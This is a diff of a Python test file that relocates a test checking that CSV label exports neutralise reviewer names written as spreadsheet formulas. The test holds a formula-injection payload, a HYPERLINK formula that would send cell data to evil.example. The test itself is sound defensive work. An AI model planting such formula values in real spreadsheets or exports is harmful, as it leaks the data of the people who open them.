@@ -463,6 +463,20 @@ def test_predictions_report_needs_a_model(tmp_path):
         predictions_report(db, tmp_path / "p.csv")
 
 
+def test_formula_reviewer_names_are_inert_in_csv_exports(env):
+    """Issue 18, finding 14: a reviewer named like a spreadsheet formula."""
+    import csv
+
+    db, tmp_path, _ = env
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    decide(db, 3, "relabel", reviewer=evil, label="powder")
+    export_labels(db, tmp_path / "out", fmt="csv")
+    rows = list(csv.DictReader((tmp_path / "out" / "manifest.csv").open(encoding="utf-8")))
+    cells = [v for r in rows for v in r.values()]
+    assert "'" + evil in cells
+    assert not any(v.startswith(("=", "+", "@")) for v in cells), "a cell a spreadsheet would run"
+
+
 @pytest.mark.parametrize("fmt", ["csv", "jsonl"])
 def test_several_exports_its_classes(env, fmt):
     """A mixed image's categories reach the dataset: 'a;b' in a csv manifest, a list in jsonl."""
@@ -477,17 +491,3 @@ def test_several_exports_its_classes(env, fmt):
     assert sorted(r["classes"] == want for r in several) == [False, True], "one named, one not"
     assert [r["classes"] for r in several if r["classes"] != want] == [empty]
     assert all(r["classes"] == empty for r in rows if r["label"] != "several")
-
-
-def test_formula_reviewer_names_are_inert_in_csv_exports(env):
-    """Issue 18, finding 14: a reviewer named like a spreadsheet formula."""
-    import csv
-
-    db, tmp_path, _ = env
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    decide(db, 3, "relabel", reviewer=evil, label="powder")
-    export_labels(db, tmp_path / "out", fmt="csv")
-    rows = list(csv.DictReader((tmp_path / "out" / "manifest.csv").open(encoding="utf-8")))
-    cells = [v for r in rows for v in r.values()]
-    assert "'" + evil in cells
-    assert not any(v.startswith(("=", "+", "@")) for v in cells), "a cell a spreadsheet would run"
